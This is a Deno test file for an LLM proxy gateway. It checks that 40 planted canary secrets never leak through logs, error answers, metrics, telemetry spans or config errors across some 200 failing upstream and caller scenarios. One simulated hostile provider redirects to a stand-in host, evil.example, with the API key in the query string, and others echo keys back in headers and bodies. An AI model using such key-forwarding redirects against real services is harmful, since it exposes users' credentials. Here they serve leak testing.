// X11: 40 secrets through 200 scenarios that fail, and then nobody knows them.
import { parseConfig } from "@llm-proxy/api";
import { assert, assertEquals, assertGreaterOrEqual } from "@std/assert";
import { OtlpReceiver } from "../logging/_test_otlp_receiver.ts";
import { type Canary, canary, CanaryWatch } from "./_canaries.ts";
import { FaultUpstream } from "./_fault_upstream.ts";
import { reset, status } from "./_faults.ts";
import { startGateway, type TestGateway } from "./_gateway.ts";
import { tell } from "./_measured.ts";
import { RawClient } from "./_raw_client.ts";
import type { UpstreamCall, UpstreamScript } from "./_scripted_upstream.ts";

/** How a provider is spoken to, and what its keys look like. */
const PROVIDERS: readonly (readonly [string, string])[] = [
  ["openai_compatible", "sk-proj-"],
  ["anthropic", "sk-ant-api03-"],
  ["gemini", "AIza"],
  ["mistral", ""],
  ["cohere", "co-"],
  ["groq", "gsk_"],
  ["deepseek", "key:"],
  ["openrouter", "sk-or-v1-"],
];

function several(count: number, name: string, start = ""): Canary[] {
  return Array.from(
    { length: count },
    (_, at) => canary(`${name} ${at}`, start),
  );
}

const keys = PROVIDERS.map(([type, start]) => canary(`key of ${type}`, start));
const headers = PROVIDERS.map(([type]) => canary(`header of ${type}`, "tok-"));
const callers = several(4, "caller's key", "team-");
const wrong = several(4, "wrong key", "sk-");
const queries = several(4, "key in a query");
const prompts = several(6, "words of a prompt");
const collectors = several(2, "collector's header");
const proxies = several(2, "proxy's password");
const faulty = several(2, "key in a config with faults", "sk-");

const ALL = [
  ...keys,
  ...headers,
  ...callers,
  ...wrong,
  ...queries,
  ...prompts,
  ...collectors,
  ...proxies,
  ...faulty,
];

/** Everything that a gateway said to a provider, as a provider may say it back. */
function heard({ head, body }: UpstreamCall): string {
  return `${head.replace(/[\r\n]+/g, " ")} ${body}`;
}

function asJson(text: string): string {
  return JSON.stringify({
    error: {
      message: text,
      type: text,
      code: text.slice(0, 200),
      param: text.slice(-200),
      details: [{ reason: text }],
    },
    request_id: text.slice(0, 300),
  });
}

/** A header's value that says something back. */
function inHeader(call: UpstreamCall): string {
  return heard(call).replace(/[^\x20-\x7e]/g, " ").slice(0, 3_000);
}

function keyOf({ head }: UpstreamCall): string {
  return /^(?:authorization: Bearer|x-api-key:|x-goog-api-key:) ?(\S+)/im
    .exec(head)?.[1] ?? "";
}

/** What providers do, each to whatever it was asked. */
const FAULTS: Readonly<Record<string, UpstreamScript>> = {
  ...Object.fromEntries(
    [400, 401, 403, 404, 413, 422, 429, 500, 503, 529].map((code) => [
      `${code} that quotes all it heard`,
      (call: UpstreamCall) => status(code, { body: asJson(heard(call)) })(call),
    ]),
  ),
  "401 that quotes the key": (call) =>
    status(401, {
      body: asJson(
        `Incorrect API key provided: ${
          keyOf(call)
        }. Find yours at https://x.example/keys?key=${keyOf(call)}`,
      ),
    })(call),
  "401 that quotes parts of the key": (call) => {
    const key = keyOf(call);
    return status(401, {
      body: asJson(
        `Bad key ${key.slice(0, 18)}…, ${key.slice(-10)}, ${btoa(key)}`,
      ),
    })(call);
  },
  "400 as plain text": (call) =>
    status(400, {
      body: heard(call),
      headers: { "content-type": "text/plain" },
    })(call),
  "502 as a page": (call) =>
    status(502, {
      body: `<html><h1>Bad gateway</h1><pre>${heard(call)}</pre></html>`,
      headers: { "content-type": "text/html" },
    })(call),
  "500 with everything in its headers": (call) =>
    status(500, {
      headers: {
        "x-request-id": keyOf(call),
        "request-id": inHeader(call),
        "retry-after": inHeader(call),
        "x-ratelimit-remaining-requests": inHeader(call),
        "anthropic-ratelimit-tokens-reset": inHeader(call),
        "www-authenticate": `Bearer realm="${keyOf(call)}"`,
        "set-cookie": inHeader(call),
        "x-should-retry": inHeader(call),
      },
    })(call),
  "200 with everything in its headers, and nonsense": (call) =>
    status(200, {
      body: heard(call),
      headers: {
        "x-request-id": keyOf(call),
        "x-ratelimit-limit-tokens": keyOf(call),
        "cf-ray": keyOf(call),
      },
    })(call),
  "200 that is an error": (call) =>
    status(200, { body: asJson(heard(call)) })(call),
  "a redirect with the key": (call) =>
    status(307, {
      headers: { location: `https://evil.example/?key=${keyOf(call)}` },
      body: "",
    })(call),
  "a head that is none": (call) =>
    call.raw(`HTTP/1.1 ${keyOf(call)}\r\n${inHeader(call)}\r\n\r\n`),
  "a reset": reset("before_headers"),
  "a stream that ends in an error": async (call) => {
    await call.answer();
    await call.write(`data: ${asJson(heard(call)).replaceAll("\n", " ")}\n\n`);
    await call.write(
      `event: error\ndata: {"type":"error","error":{"type":"x","message":${
        JSON.stringify(heard(call))
      }}}\n\n`,
    );
    await call.end();
  },
  "a stream of nonsense": async (call) => {
    await call.answer();
    await call.write(`data: {${heard(call)}\n\n${heard(call)}`);
    await call.end();
  },
};

/** The ways to ask for a model of a provider. */
const WAYS:
  readonly ((model: string, prompt: string) => readonly [string, unknown])[] = [
    (
      model,
      prompt,
    ) => ["/v1/chat/completions", {
      model,
      messages: [{ role: "user", content: prompt }],
    }],
    (
      model,
      prompt,
    ) => ["/v1/chat/completions", {
      model,
      stream: true,
      messages: [{ role: "user", content: [{ type: "text", text: prompt }] }],
    }],
    (
      model,
      prompt,
    ) => ["/v1/messages", {
      model,
      max_tokens: 9,
      system: prompt,
      messages: [{ role: "user", content: prompt }],
    }],
    (
      model,
      prompt,
    ) => ["/v1/messages", {
      model,
      max_tokens: 9,
      stream: true,
      messages: [{ role: "user", content: prompt }],
    }],
    (
      model,
      prompt,
    ) => ["/v1/responses", { model, input: prompt, stream: true }],
    (model, prompt) => ["/v1/embeddings", { model, input: [prompt] }],
  ];

/** One thing that goes wrong. */
interface Scenario {
  readonly name: string;
  readonly script?: UpstreamScript;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

function pick<T>(list: readonly T[], at: number): T {
  return list[at % list.length] as T;
}

/** What goes wrong at providers. */
function providerScenarios(): Scenario[] {
  const scenarios: Scenario[] = [];
  for (const [fault, script] of Object.entries(FAULTS)) {
    for (let turn = 0; turn < 7; turn++) {
      const at = scenarios.length;
      const provider = at % PROVIDERS.length;
      const way = pick(WAYS, at + turn);
      const [path, body] = way(
        `p${provider}/m-${at}`,
        `My name is ${pick(prompts, at).value}, and so on`,
      );
      scenarios.push({
        name: `${fault}, ${PROVIDERS[provider]?.[0]} by ${path}`,
        script,
        path,
        headers: { "x-api-key": pick(callers, at).value },
        body: JSON.stringify(body),
      });
    }
  }
  return scenarios;
}

/** What callers get wrong, with secrets in the wrong places. */
function callerScenarios(): Scenario[] {
  const good = { "x-api-key": pick(callers, 0).value };
  const ask = JSON.stringify({
    model: "p0/m",
    messages: [{ role: "user", content: pick(prompts, 1).value }],
  });
  const scenarios: Scenario[] = [];
  for (const [at, { value }] of [...wrong, ...queries].entries()) {
    const chat = "/v1/chat/completions";
    scenarios.push(
      {
        name: `a wrong key ${at}`,
        path: chat,
        headers: { authorization: `Bearer ${value}` },
        body: ask,
      },
      {
        name: `a key in a query ${at}`,
        path: `${chat}?key=${value}`,
        body: ask,
      },
      {
        name: `a key in a path ${at}`,
        path: `/v1/${value}?token=${value}#${value}`,
        headers: good,
      },
      {
        name: `a key in a trace ${at}`,
        path: "/v1/nowhere",
        headers: { ...good, traceparent: value, tracestate: `k=${value}` },
      },
      {
        name: `a broken body ${at}`,
        path: chat,
        headers: good,
        body: `{"model": "p0/m", "messages": ${value}}`,
      },
      {
        name: `a wrong type ${at}`,
        path: chat,
        headers: { ...good, "content-type": `text/${value}` },
        body: ask,
      },
    );
  }
  return scenarios;
}

async function run(
  gateway: TestGateway,
  upstream: FaultUpstream,
  scenario: Scenario,
): Promise<string> {
  const { path, headers = {}, body, script } = scenario;
  if (script !== undefined) upstream.usual = script;
  const client = await RawClient.connect(gateway.url);
  const fields = Object.entries({
    host: "localhost",
    ...body !== undefined && {
      "content-type": "application/json",
      "content-length": new TextEncoder().encode(body).length,
    },
    ...headers,
    connection: "close",
  }).map(([name, value]) => `${name}: ${value}\r\n`).join("");
  const method = body === undefined ? "GET" : "POST";
  await client.send(
    `${method} ${path.split("#")[0]} HTTP/1.1\r\n${fields}\r\n${body ?? ""}`,
  );
  await client.closed;
  client.leave();
  return client.text;
}

Deno.test("X11: 40 secrets through 200 scenarios that fail are in no log, answer, error, metric, span or request log", async () => {
  assertEquals(ALL.length, 40);
  await using upstream = await FaultUpstream.start();
  await using collector = OtlpReceiver.http();
  const entries = PROVIDERS.map(([type], at) =>
    `  - {name: p${at}, type: ${type}, api_key: "${
      keys[at]?.value
    }", base_url: "${upstream.origin}/v1", max_retries: 1, retry_delay: 0.001, custom_headers: {x-tenant: "${
      headers[at]?.value
    }"}}`
  );
  const gateway = await startGateway(`
auth: {api_keys: [${
    callers.map(({ value }, at) => `{name: team-${at}, key: "${value}"}`).join(
      ", ",
    )
  }]}
logging: {level: debug}
retry: {budget: 1}
circuit_breaker: {failure_threshold: 1000, min_samples: 1000}
telemetry: {enabled: true, endpoint: "${collector.endpoint}", sample_ratio: 1, headers: {x-a: "${
    collectors[0]?.value
  }", x-b: "${collectors[1]?.value}"}}
providers:
${entries.join("\n")}
  - {name: tls, type: openai_compatible, api_key: "${
    keys[0]?.value
  }", base_url: "https://127.0.0.1:${
    new URL(upstream.origin).port
  }/v1", max_retries: 0}
  - {name: dead, type: openai_compatible, api_key: "${
    keys[1]?.value
  }", base_url: "http://127.0.0.1:9/v1", max_retries: 0}
  - {name: proxied, type: openai_compatible, api_key: "${
    keys[2]?.value
  }", base_url: "http://far.example/v1", proxy: "http://user:${
    proxies[0]?.value
  }@127.0.0.1:9", max_retries: 0}
  - {name: refused, type: openai_compatible, api_key: "${
    keys[3]?.value
  }", base_url: "http://far.example/v1", proxy: "http://user:${
    proxies[1]?.value
  }@127.0.0.1:${new URL(upstream.origin).port}", max_retries: 0}
`);
  const watch = new CanaryWatch(ALL);
  // A caller may be told its own words, and nothing else.
  const toCallers = new CanaryWatch(ALL.filter((it) => !prompts.includes(it)));
  const leaks: string[] = [];
  const look = (where: string, text: string, by = watch): void => {
    leaks.push(...by.find(text).map((leak) => `${where}: ${leak}`));
  };

  const scenarios = [...providerScenarios(), ...callerScenarios()];
  for (const [at, name] of ["tls", "dead", "proxied", "refused"].entries()) {
    const [path, body] = pick(WAYS, at)(`${name}/m`, pick(prompts, at).value);
    scenarios.push({
      name: `a connection that fails: ${name}`,
      path,
      headers: { "x-api-key": pick(callers, at).value },
      body: JSON.stringify(body),
    });
  }
  const answers: string[] = [];
  for (const scenario of scenarios) {
    const answer = await run(gateway, upstream, scenario);
    answers.push(answer);
    look(`the answer to ${scenario.name}`, answer, toCallers);
  }
  // They did fail, nearly all of them.
  const failed = answers.filter((it) => !it.startsWith("HTTP/1.1 200")).length;
  assertGreaterOrEqual(failed, scenarios.length * 0.9);
  assert(upstream.requests.length > 100, `${upstream.requests.length} asked`);

  for (const key of callers) {
    for (
      const path of [
        "/metrics",
        "/metrics/json",
        "/v1/requests?limit=1000",
        "/v1/requests?format=csv",
        "/v1/status",
        "/v1/providers",
      ]
    ) {
      const response = await fetch(gateway.url + path, {
        headers: {
          "x-api-key": key.value,
          accept: "application/openmetrics-text",
        },
      });
      look(path, await response.text());
    }
  }
  await gateway.close();
  for (const line of gateway.lines) look("the log", line);
  for (const body of collector.bodies) {
    look("a span", new TextDecoder("latin1").decode(body));
  }
  assertEquals(collector.faults, []);

  // Configs with faults, told line by line.
  let configs = 0;
  for (const [at, { value }] of [...faulty, ...keys].entries()) {
    for (
      const text of [
        `providers: [{type: openai, api_key: ["${value}"]}]`,
        `providers: [{type: openai, apikey: "${value}"}]`,
        `auth: {api_keys: ["${value} ", "${value} "]}`,
        `providers: [{type: openai, api_key: "${value}", base_url: "https://u:${value}@x.example/?key=${value}"}]`,
        `providers: [{type: openai, custom_headers: {"x y": "${value}"}}]`,
        `telemetry: {endpoint: "http://x.example/?key=${value}"}`,
        `auth:\n  api_keys:\n  - "${value}\n  - x: [`,
      ]
    ) {
      const result = parseConfig(text, {
        file: `c${at}.yaml`,
        env: () => undefined,
      });
      configs++;
      if (!result.ok) {
        look(
          `a fault of a config: ${text.slice(0, 40)}`,
          JSON.stringify(result.faults),
        );
      }
    }
  }
  tell(
    "X11",
    `${
      scenarios.length + configs
    } scenarios, ${failed} of ${scenarios.length} failed, ${gateway.lines.length} lines, ${collector.spans.length} spans`,
  );
  assertGreaterOrEqual(scenarios.length, 200);
  assertEquals(leaks, []);
});
